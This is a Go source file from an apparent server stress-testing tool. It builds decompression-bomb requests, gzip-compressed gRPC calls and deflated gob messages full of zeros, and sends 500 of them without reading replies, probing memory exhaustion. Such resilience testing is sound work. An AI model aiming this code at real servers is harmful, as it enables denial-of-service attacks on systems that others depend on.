package attack

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/binary"

	"github.com/echobench/echobench/internal/race"
	"github.com/echobench/echobench/internal/rawhttp2"
	"github.com/echobench/echobench/payload"
)

// bomb sends requests that take a thousandth of their size, and never reads.
func bomb(a *assault) error {
	a.wire = *a.wire.bombs
	const requests = 500
	return unread(largest-64, requests*(streamCost+largest/1000))(a)
}

func needsCompression(tg *target) string {
	switch {
	case tg.wire.bombs == nil:
		return "the server does not decompress"
	case race.Enabled:
		return "under the race detector, this takes a minute"
	}
	return ""
}

// zeros returns an encoded Payload whose data are zeros.
func zeros(size int) []byte {
	return payload.Append(nil, &payload.Payload{Id: 1, Data: make([]byte, size)})
}

// exploding returns w, whose server accepts compressed calls of gRPC
// (grpc.github.io/grpc/core/md_doc_compression.html).
func exploding(w wire) wire {
	bombs, request := w, w.http2
	bombs.http2 = func(size int) call {
		c := request(0)
		c.fields = append(c.fields, rawhttp2.Field{"grpc-encoding", "gzip"})
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		z.Write(zeros(size))
		z.Close()
		c.body = append(binary.BigEndian.AppendUint32([]byte{1}, uint32(b.Len())), b.Bytes()...)
		return c
	}
	w.bombs = &bombs
	return w
}

// gobBombs is gobDeflated with requests that are compressed.
var gobBombs = wire{name: "gorpc", hello: "\x01",
	first: func(size int) []byte { return deflated(gobFirst(zeros(size)), flate.BestCompression) },
	next:  func(size int) []byte { return deflated(gobNext(zeros(size)), flate.BestCompression) },
}
